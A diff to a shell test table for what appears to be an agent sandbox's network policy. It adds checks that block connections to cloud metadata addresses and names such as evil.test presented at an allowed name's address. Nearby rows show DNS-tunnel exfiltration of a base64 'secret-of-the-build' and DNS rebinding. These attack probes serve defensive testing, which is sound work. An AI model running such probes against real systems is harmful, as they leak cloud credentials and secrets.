@@ -6,12 +6,14 @@
 #   net, files, credentials   the policy: network rules; also `files` audit or block; also `credentials` audit or block
 #   fileaudit                 network rules with `files audit` in both modes (the default of a step in block)
 #   loopback-allow            `loopback allow` instead of `own`
+#   sni                       `sni check`
 #   late                      wait for what happens after the command has ended
 #   inherit-socket, inherit-file, stdin-socket   open a connection as descriptor 9, the file as 9, a connection as 0
 #   visit-tcp, visit-rights   an outside process comes to the program's listening socket
 #   root, user                only as root, only as an ordinary user
 # JUDGE  what counts as "the attack reached its goal":
 #   arrives        something arrived at a socket that the policy does not allow
+#   sends          bytes arrived there; the connection alone does not count
 #   asked:TEXT     a DNS server was asked for a name that holds TEXT, or something arrived
 #   word           the program's own exit status, where nothing arrives anywhere
 #   secret, cmdline   the agent's secret was printed
@@ -96,6 +98,9 @@ row zero net arrives "$would" "$blocked" "Addresses | 0.0.0.0 |" -- connect bloc
 row zero6 net arrives "$would" "$blocked" "Addresses | :: |" -- connect blocking :: $D
 row zone net arrives "$would" "$blocked rule=metadata" "Addresses | link-local IPv6 with a zone |" -- connect blocking fe80::1%lo $D
 row metadata net arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata 169.254.169.254 |" -- connect blocking 169.254.169.254 80
+for address in 168.63.129.16 100.100.100.200; do
+    row "metadata-${address%%.*}" net arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata $address |" -- connect blocking $address 80
+done
 row metadata6 net arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata fd00:ec2::254 |" -- connect blocking fd00:ec2::254 80
 row metadata-mapped net arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata, IPv4-mapped |" -- connect blocking ::ffff:169.254.169.254 80
 row metadata-loopback-allow net,loopback-allow arrives "k=net port=80 verdict=would-block rule=metadata" "k=net port=80 verdict=blocked rule=metadata" "Addresses | metadata with loopback allow |" -- connect blocking 169.254.169.254 80
@@ -113,6 +118,18 @@ row dns-dot net arrives "k=net port=853 verdict=would-block" "k=net port=853 ver
 row dns-suffix net asked:evilwild.test "k=dns name~evilwild.test verdict=would-block" "k=dns name~evilwild.test verdict=blocked" "Names | a name that only ends like an allowed one (evilwild.test, *.wild.test) |" -- dns_query connected 127.0.1.53 53 evilwild.test
 row dns-rebind net arrives "k=net port=80" "k=net port=80 verdict=blocked" "Names | an allowed wildcard whose owner answers with the metadata address |" -- sh -c "$BIN/dns_query connected 127.0.1.53 53 meta.wild.test; exec $BIN/connect blocking 169.254.169.254 80"
 row dns-tunnel net asked:c2VjcmV0 "k=dns name~wild.test" "k=dns name~wild.test verdict=blocked" "Names | data in labels under an allowed wildcard |" -- dns_query connected 127.0.1.53 53 "c2VjcmV0LW9mLXRoZS1idWlsZA-Zm9vYmFy-YmF6cXV4.wild.test"
+
+# ---- names presented at an allowed name's address ----
+if [ "$HERMETIC" = 1 ]; then
+    for kind in host target pieces tls; do
+        row "presented-$kind" net,sni sends "k=net port=80 name=evil.test verdict=would-block rule=sni" "k=net port=80 name=evil.test verdict=blocked rule=sni" \
+            "Names | another name, asked of an allowed name's address: $kind |" -- sh -c "$BIN/dns_query connected 127.0.1.53 53 a.wild.test; exec $BIN/presented $kind 127.0.1.9 80 evil.test"
+    done
+    for kind in nameless plain; do
+        row "presented-$kind" net,sni sends "k=net port=80 verdict=would-block rule=sni" "k=net port=80 verdict=blocked rule=sni" \
+            "Names | no name, at an allowed name's address: $kind |" -- sh -c "$BIN/dns_query connected 127.0.1.53 53 a.wild.test; exec $BIN/presented $kind 127.0.1.9 80 evil.test"
+    done
+fi
 
 # ---- descriptors ----
 row inherited net,inherit-socket arrives "-" "-" "Descriptors | connection that was open before the command |" -- descriptors inherited 9
